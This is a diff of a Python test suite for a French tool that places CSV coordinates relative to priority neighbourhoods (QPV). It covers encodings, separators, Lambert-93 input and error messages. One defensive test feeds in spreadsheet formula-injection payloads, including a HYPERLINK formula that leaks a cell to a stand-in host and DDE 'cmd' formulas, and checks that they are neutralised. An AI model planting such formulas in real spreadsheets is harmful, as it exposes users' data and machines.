@@ -6,6 +6,7 @@ projected with a pyproj Transformer (EPSG:4326 -> EPSG:2154) and measured with s
 
 from __future__ import annotations
 
+import codecs
 import io
 from functools import cache
 
@@ -150,7 +151,7 @@ def test_10000_rows_round_trip_with_exact_counts(tmp_path):
         for kind, (lat, lon) in (
             ("dans", inside),
             ("bande", outside[i % len(outside)]),
-            ("hors_territoire", ARRAS),
+            ("hors", ARRAS),
             ("invalide", invalid[i % len(invalid)]),
         ):
             rows.append((len(rows), _cell(lat), _cell(lon)))
@@ -167,7 +168,7 @@ def test_10000_rows_round_trip_with_exact_counts(tmp_path):
     assert back["statut"].value_counts().to_dict() == {
         "dans": 2500,
         "bande": 2500,
-        "hors_territoire": 2500,
+        "hors": 2500,
         "invalide": 2500,
     }
     assert back["id"].tolist() == [str(i) for i in range(10_000)]
@@ -180,6 +181,12 @@ def test_10000_rows_round_trip_with_exact_counts(tmp_path):
     assert set(bande["distance_limite_m"].astype(int)) <= {149, 150, 151}
     invalides = back[back["statut"] == "invalide"]
     assert set(invalides[["code_qp", "nom_qp", "dans_qpv", "dans_bande_300m", "distance_limite_m"]].stack()) == {""}
+    assert (invalides["motif"] != "").all()
+    arras = back[back["statut"] == "hors"]
+    assert set(arras["remarque"]) == {"hors des agglomérations CABBALR et CALL"}
+    assert set(arras["dans_qpv"]) == {"non"} and set(arras["dans_bande_300m"]) == {"non"}
+    assert (arras["distance_limite_m"].astype(int) > 10_000).all()  # the nearest QPV known here is far away
+    assert set(back.loc[back["statut"] != "hors", "remarque"]) == {""}
 
 
 # --- reading French spreadsheets' CSV ---------------------------------------------------------------------------
@@ -224,9 +231,19 @@ def test_column_names_are_case_insensitive():
 def test_extra_columns_kept_and_output_columns_appended():
     result, table = _locate_bytes(b"ref;Latitude;Longitude;commentaire\nA1;50.518;2.629;x\nA2;50.2910;2.7775;y\n")
     assert list(result.columns) == ["ref", "Latitude", "Longitude", "commentaire", *OUTPUT_COLUMNS]
-    assert OUTPUT_COLUMNS == ("code_qp", "nom_qp", "dans_qpv", "dans_bande_300m", "distance_limite_m", "statut")
+    assert OUTPUT_COLUMNS == (
+        "code_qp",
+        "nom_qp",
+        "dans_qpv",
+        "dans_bande_300m",
+        "distance_limite_m",
+        "statut",
+        "remarque",
+        "motif",
+    )
     assert result["ref"].tolist() == ["A1", "A2"] and result["commentaire"].tolist() == ["x", "y"]
-    assert result["statut"].tolist() == ["dans", "hors_territoire"]
+    assert result["statut"].tolist() == ["dans", "hors"]
+    assert result["remarque"].tolist() == ["", "hors des agglomérations CABBALR et CALL"]
     back = pd.read_csv(io.BytesIO(to_csv_bytes(result, table.separator)), sep=";", dtype=str, encoding="utf-8-sig")
     assert list(back.columns) == list(result.columns)
 
@@ -254,14 +271,14 @@ def test_missing_coordinate_columns_lists_the_columns_read():
     table = read_csv(b"adresse;ville;code\n1 rue Haute;Lens;62300\n")
     with pytest.raises(BatchError, match="Colonnes de coordonnées introuvables") as info:
         locate_frame(table.frame, _locator())
-    assert "colonnes lues : adresse, ville, code" in str(info.value)
+    assert "Colonnes lues : adresse | ville | code" in str(info.value)
 
 
 def test_file_larger_than_max_bytes(monkeypatch):
     monkeypatch.setattr(batch, "MAX_BYTES", 100)
     content = _csv([(50.518, 2.629)] * 20, ("latitude", "longitude")).encode()
     assert len(content) > 100
-    with pytest.raises(BatchError, match="dépasse la taille maximale de 100 octets"):
+    with pytest.raises(BatchError, match="dépasse la taille maximale de 20 Mo"):
         read_csv(content, "points.csv")
 
 
@@ -285,9 +302,17 @@ def test_bad_rows_are_invalid_and_the_others_processed():
         ("ok2", "50.2910", "2.7775"),
     ]
     result, _ = _locate_bytes(_csv(rows, ("cas", "latitude", "longitude")).encode())
-    assert result["statut"].tolist() == ["dans", *["invalide"] * 6, "hors_territoire"]
+    assert result["statut"].tolist() == ["dans", *["invalide"] * 6, "hors"]
     assert result.loc[1:6, "code_qp"].tolist() == [""] * 6
     assert result.loc[1:6, "distance_limite_m"].tolist() == [""] * 6
+    assert result.loc[1:6, "motif"].tolist() == [
+        "latitude absente; longitude absente",
+        "latitude absente",
+        "latitude invalide (« abc », attendu un nombre entre -90 et 90)",
+        "longitude invalide (« deux », attendu un nombre entre -180 et 180)",
+        "latitude invalide (« 95 », attendu un nombre entre -90 et 90)",
+        "longitude invalide (« 200 », attendu un nombre entre -180 et 180)",
+    ]
 
 
 # --- distances against an independent computation ----------------------------------------------------------------
@@ -327,3 +352,203 @@ def test_billy_montigny_point_is_in_the_band_of_the_cahc_qpv_noumea():
     result, _ = _locate_bytes(_csv([(repr(lat), repr(lon))], ("latitude", "longitude")).encode())
     assert result.loc[0, "statut"] == "bande" and result.loc[0, "code_qp"] == NOUMEA
     assert result.loc[0, "dans_bande_300m"] == "oui"
+
+
+# --- files as people export them -------------------------------------------------------------------------------
+
+HORS = "hors des agglomérations CABBALR et CALL"
+
+
+def _result(content: bytes) -> tuple[batch.BatchResult, batch.CsvTable]:
+    table = read_csv(content, "points.csv")
+    return batch.locate_table(table, _locator()), table
+
+
+def test_trailing_separators_do_not_shift_columns():
+    """LibreOffice/Excel exports often end every row with `;`: latitudes must stay latitudes."""
+    result, table = _result(b"nom;latitude;longitude;\nA;50,518;2,629;\nB;50,2910;2,7775;\n")
+    assert list(table.frame.columns) == ["nom", "latitude", "longitude"]
+    assert result.frame["nom"].tolist() == ["A", "B"]
+    assert result.frame["statut"].tolist() == ["dans", "hors"]
+    assert result.counts == {"dans": 1, "bande": 0, "limite": 0, "hors": 1, "invalide": 0}
+    assert result.level == "success"
+
+
+def test_rows_with_trailing_separators_under_a_clean_header():
+    result, _ = _result(b"nom;latitude;longitude\nA;50,518;2,629;\nB;50,2910;2,7775;;\n")
+    assert result.frame["statut"].tolist() == ["dans", "hors"]
+
+
+def test_a_ragged_first_row_is_invalid_and_the_others_go_on():
+    result, _ = _result(b"nom,latitude,longitude\nA,50.518,2.629,en trop\nB,50.518,2.629\nC,50.2910,2.7775\n")
+    assert result.frame["statut"].tolist() == ["invalide", "dans", "hors"]
+    assert result.frame.loc[0, "motif"] == "ligne 2 : 4 champs pour 3 colonnes — colonnes décalées, ligne non lue"
+    assert result.frame["nom"].tolist() == ["A", "B", "C"]  # nothing silently lost
+    assert result.level == "warning" and "1 ligne(s) invalide(s)" in result.summary()
+
+
+def test_short_rows_are_padded_not_shifted():
+    result, _ = _result(b"latitude;longitude;commentaire\n50,518;2,629\n50,2910;2,7775;x\n")
+    assert result.frame["statut"].tolist() == ["dans", "hors"]
+    assert result.frame["commentaire"].tolist() == ["", "x"]
+
+
+def test_excel_sep_line_names_the_separator():
+    result, table = _result(b"sep=;\r\nnom;latitude;longitude\r\nA;50,518;2,629\r\n")
+    assert table.separator == ";" and list(table.frame.columns) == ["nom", "latitude", "longitude"]
+    assert result.frame["statut"].tolist() == ["dans"]
+    _, comma = _result(b'"sep=,"\nlatitude,longitude\n50.518,2.629\n')
+    assert comma.separator == ","
+
+
+def test_tab_separated_export():
+    result, table = _result(b"nom\tlatitude\tlongitude\nA, B\t50,518\t2,629\n")
+    assert table.separator == "\t" and table.separator_name == "tabulation"
+    assert result.frame["nom"].tolist() == ["A, B"] and result.frame["statut"].tolist() == ["dans"]
+
+
+@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le"])
+def test_utf16_unicode_text_export(codec):
+    """Excel's "Texte Unicode (*.txt)": UTF-16 (with BOM, or little-endian without), tab-separated."""
+    content = "nom\tlatitude\tlongitude\r\nÉcole Pasteur\t50,518\t2,629\r\n".encode(codec)
+    result, table = _result(content)
+    assert table.encoding == "UTF-16" and table.separator == "\t"
+    assert result.frame["nom"].tolist() == ["École Pasteur"] and result.frame["statut"].tolist() == ["dans"]
+
+
+def test_cp1252_with_euro_and_utf8_with_bom():
+    result, table = _result("nom;prix;latitude;longitude\nÉté;5 €;50,518;2,629\n".encode("cp1252"))
+    assert table.encoding == "Windows-1252" and result.frame["prix"].tolist() == ["5 €"]
+    result, table = _result("\ufeffnom;latitude;longitude\nÉté;50,518;2,629\n".encode("utf-8"))
+    assert table.encoding == "UTF-8" and list(table.frame.columns)[0] == "nom"
+
+
+@pytest.mark.parametrize("header", ["latitude;latitude;longitude", "lat;LAT;lon", "latitude;longitude;Longitude"])
+def test_duplicated_coordinate_headers_get_a_clear_message(header):
+    table = read_csv(f"{header}\n50,5;50,5;2,6\n".encode())
+    with pytest.raises(BatchError, match="apparaît 2 fois dans l'en-tête"):
+        batch.locate_table(table, _locator())
+
+
+def test_other_duplicated_headers_are_kept_as_they_are():
+    result, _ = _result(b"note;note;latitude;longitude\na;b;50,518;2,629\n")
+    assert list(result.frame.columns[:4]) == ["note", "note", "latitude", "longitude"]
+    assert result.frame.iloc[0, :2].tolist() == ["a", "b"] and result.frame["statut"].tolist() == ["dans"]
+
+
+def test_lambert93_columns_x_y():
+    """x / y in metres (EPSG:2154), e.g. from a GIS: the answer equals the degrees' answer."""
+    lat, lon = _inside_mont_liebaut()
+    x, y = TO_L93.transform(lon, lat)
+    bande_lat, bande_lon = _outside_mont_liebaut()[0]
+    bx, by = TO_L93.transform(bande_lon, bande_lat)
+    content = f"id;X;Y\n1;{x:.2f};{y:.2f}\n2;{bx:.2f};{by:.2f}\n3;2,629;50,518\n".encode()
+    result, _ = _result(content)
+    assert result.frame["statut"].tolist() == ["dans", "bande", "invalide"]
+    assert result.frame.loc[1, "code_qp"] == MONT_LIEBAUT
+    assert (
+        abs(int(result.frame.loc[1, "distance_limite_m"]) - _distance_to_limit(bande_lat, bande_lon, MONT_LIEBAUT)) <= 1
+    )
+    assert "Lambert-93" in result.frame.loc[2, "motif"]
+    result, _ = _result(f"x_l93,y_l93\n{x:.1f},{y:.1f}\n".encode())
+    assert result.frame["statut"].tolist() == ["dans"]
+
+
+def test_swapped_columns_get_a_hint():
+    result, _ = _result(b"latitude;longitude\n2,629;50,518\n2,78;50,29\n")
+    assert set(result.frame["statut"]) == {"hors"}
+    assert result.hints and "inversées" in result.hints[0] and "En les échangeant" in result.hints[0]
+    assert result.level == "warning" and "inversées" in result.summary()
+    good, _ = _result(b"latitude;longitude\n50,518;2,629\n2,629;50,518\n")
+    assert good.hints == ()  # one point in France: no hint
+
+
+def test_extreme_values_in_a_file_never_abort_it():
+    rows = [
+        ("-90", "0"),
+        ("90", "180"),
+        ("-90", "-180"),
+        ("NaN", "2.6"),
+        ("inf", "2.6"),
+        ("50.5", "-inf"),
+        ("1e400", "2.6"),
+        ("9" * 400, "2.6"),
+        ("50.518", "2.629"),
+    ]
+    result, _ = _result(_csv(rows, ("latitude", "longitude")).encode())
+    assert result.frame["statut"].tolist() == ["hors", "hors", "hors", *["invalide"] * 5, "dans"]
+    assert set(result.frame.loc[:2, "remarque"]) == {HORS}
+    assert all(result.frame.loc[3:7, "motif"].str.contains("invalide"))
+
+
+def test_nothing_located_is_an_error_never_a_success():
+    result, _ = _result(b"latitude;longitude\nabc;def\n;\n95;2\n")
+    assert result.counts["invalide"] == 2 and result.located == 0  # the blank line is not a row
+    assert result.level == "error" and "Aucun point n'a pu être situé" in result.summary()
+
+
+def test_summary_counts_each_status():
+    lat, lon = _outside_mont_liebaut()[0]
+    result, _ = _result(_csv([(50.518, 2.629), (lat, lon), (50.2910, 2.7775), ("x", 2)], ("lat", "lon")).encode())
+    text = result.summary()
+    assert text.startswith("4 lignes traitées — dans : 1, bande : 1, limite : 0, hors : 1, invalide : 1.")
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ('=HYPERLINK("http://x.example/?leak="&A1;"clic")', "'=HYPERLINK"),
+        ("=cmd|' /C calc'!A0", "'=cmd|"),
+        ("+33 3 21 00 00 00", "'+33 3 21"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd"),
+        ("@SUM(1+1)", "'@SUM"),
+        ("\tlettre", "'\tlettre"),
+        ("\r=1+1", "'\r=1+1"),
+        ("-2,5", "-2,5"),  # a plain number stays a number
+        ("Rue du 8-Mai", "Rue du 8-Mai"),
+    ],
+)
+def test_formula_cells_are_neutralised_in_the_written_csv(cell, written):
+    frame = pd.DataFrame({"nom": [cell], "latitude": ["50.518"], "longitude": ["2.629"]})
+    result = locate_frame(frame, _locator())
+    back = pd.read_csv(
+        io.BytesIO(to_csv_bytes(result, ";")), sep=";", dtype=str, keep_default_na=False, encoding="utf-8-sig"
+    )
+    assert back.loc[0, "nom"].startswith(written)
+    assert back.loc[0, "statut"] == "dans"
+
+
+def test_formula_in_a_header_is_neutralised():
+    result, table = _result(b"=1+1;latitude;longitude\nx;50,518;2,629\n")
+    assert to_csv_bytes(result.frame, table.separator).decode("utf-8-sig").startswith("'=1+1;latitude")
+
+
+def test_streamlit_upload_limit_matches_the_batch_limit():
+    import tomllib
+
+    config = tomllib.loads((settings.ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
+    assert config["server"]["maxUploadSize"] == batch.MAX_MEGABYTES
+    assert batch.MAX_BYTES == batch.MAX_MEGABYTES * 1024 * 1024
+
+
+def test_process_upload_gives_what_the_page_shows():
+    processed = batch.process_upload(b"latitude;longitude\n50,518;2,629\n", "mes points.csv", _locator())
+    assert processed.error is None and processed.name == "mes points_qpv.csv" and processed.level == "success"
+    assert processed.csv.startswith(codecs.BOM_UTF8) and b";dans;" in processed.csv
+    refused = batch.process_upload(b"adresse\nx\n", "a.csv", _locator())
+    assert refused.level == "error" and "Colonnes de coordonnées introuvables" in refused.error
+
+
+def test_worker_process_gives_the_same_result():
+    """The page sends large files to a worker process (spawn): same answer as in the app's process."""
+    import multiprocessing
+    from concurrent.futures import ProcessPoolExecutor
+
+    layers = load_layers()
+    content = _csv([(50.518, 2.629), (50.2910, 2.7775), ("x", "y")] * 1000, ("lat", "lon")).encode()
+    with ProcessPoolExecutor(max_workers=1, mp_context=multiprocessing.get_context("spawn")) as pool:
+        future = pool.submit(batch.process_in_worker, content, "p.csv", "k", layers.qpv, layers.epci)
+        remote = future.result(timeout=120)
+    local = batch.process_upload(content, "p.csv", _locator())
+    assert remote.csv == local.csv and remote.summary == local.summary
+    assert "dans : 1\u202f000" in remote.summary
